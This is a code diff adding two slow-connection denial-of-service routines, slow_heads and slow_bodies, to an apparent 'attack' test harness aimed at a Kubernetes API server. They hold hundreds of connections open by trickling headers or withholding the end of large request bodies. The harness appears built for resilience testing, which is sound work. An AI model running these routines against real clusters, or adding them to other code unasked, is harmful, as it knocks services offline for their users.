@@ -12,6 +12,7 @@ from pathlib import Path
 
 import kube
 from attack import manifests
+from attack.by_clients import slowly
 from attack.manifests import CONFIGS
 from attack.target import Outcomes, Target, Wire, outcome, repeat, rest, sending
 
@@ -305,6 +306,38 @@ async def handshakes(target: Target) -> Outcomes:
             wire.reset()
 
     return await repeat(target, 300, attempt)
+
+
+async def slow_heads(target: Target) -> Outcomes:
+    """Without a token: three hundred connections of which each sends a byte of its head a second."""
+    cluster = kube.Cluster.load(Path(target.user_kubeconfig))
+    text = b"GET /version HTTP/1.1\r\nhost: x\r\nx-slow: " + b"x" * 100
+    return await slowly(target, cluster.port, 300, text, cluster.context)
+
+
+async def slow_bodies(target: Target) -> Outcomes:
+    """A user announces 300 bodies of 2.9 MB, and sends all but the last kilobyte of each."""
+    cluster = kube.Cluster.load(Path(target.writer_kubeconfig))
+    size = 2_900_000
+    head = (
+        f"POST {CONFIGS} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {cluster.token}\r\n"
+        f"Content-Type: application/json\r\nContent-Length: {size}\r\n\r\n"
+    ).encode()
+    most = b'{"data":{"x":"' + b"y" * (size - 1000)
+
+    async def attempt() -> str:
+        wire = await Wire.open(cluster.port, cluster.context)
+        answered = asyncio.ensure_future(wire.status(timeout_s=3600))
+        try:
+            async with sending(wire, head, most):
+                while not target.is_over and not answered.done():
+                    await asyncio.wait((answered,), timeout=1.0)
+            return answered.result() if answered.done() else "held"
+        finally:
+            answered.cancel()
+            wire.reset()
+
+    return Counter(await asyncio.gather(*(outcome(attempt()) for _ in range(300))))
 
 
 async def tiny_headers(target: Target) -> Outcomes:
